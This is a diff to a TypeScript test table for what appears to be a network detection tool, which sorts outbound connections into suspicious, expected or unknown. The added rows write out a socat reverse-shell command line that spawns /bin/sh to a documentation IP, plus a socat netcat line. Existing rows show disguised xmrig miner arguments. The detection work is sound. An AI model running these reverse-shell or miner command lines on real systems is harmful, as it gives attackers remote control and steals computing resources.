@@ -53,6 +53,10 @@ const cases: [string, Case, Verdict, string[], string[]][] = [
   ["a browser to 3333: must not fire", out(3333, proc("firefox", "/usr/lib/firefox/firefox")), "expected", ["usual-outbound"], ["mining-pool"]],
   ["adb on 5555 (miner collision): must not fire", out(5555, proc("adb")), "unknown", [], ["mining-pool"]],
   ["an unknown program to 14444: unknown", out(14444, null), "unknown", ["mining-pool"], []],
+  // socat: a shell's pipe when an address runs a program or is its own input and output, a port forward when both ends are network ends
+  ["socat TCP:HOST:443 EXEC:/bin/sh,pty,stderr (a reverse shell)", out(443, proc("socat", "/usr/bin/socat", { cmdline: ["socat", "TCP:198.51.100.7:443", "EXEC:/bin/sh,pty,stderr,setsid"] })), "suspicious", ["shell-socket"], ["relay"]],
+  ["socat - TCP:HOST:443 (a netcat)", out(443, proc("socat", "/usr/bin/socat", { cmdline: ["socat", "-", "TCP:198.51.100.7:443"] })), "suspicious", ["shell-socket"], ["relay"]],
+  ["socat -d -d TCP-LISTEN:8080,fork TCP:HOST:443 (a port forward): unknown, not a shell", out(443, proc("socat", "/usr/bin/socat", { cmdline: ["socat", "-d", "-d", "TCP-LISTEN:8080,fork,reuseaddr", "TCP:198.51.100.7:443"] })), "unknown", ["relay"], ["shell-socket"]],
   // miners renamed and copied elsewhere, told by their arguments: xmrig's -o POOL -u WALLET, an option's value in the next argument
   ["xmrig renamed syshelper in /opt, -o pool:443 -u a Monero wallet", out(443, proc("syshelper", "/opt/sys/syshelper", { cmdline: ["syshelper", "-o", "198.51.100.7:443", "-u", XMR, "-k", "--tls"] })), "suspicious", ["miner"], []],
   ["xmrig --user=WALLET.worker", out(443, proc("syshelper", "/opt/sys/syshelper", { cmdline: ["syshelper", "--url=198.51.100.7:443", `--user=${XMR}.rig1`, "--tls"] })), "suspicious", ["miner"], []],
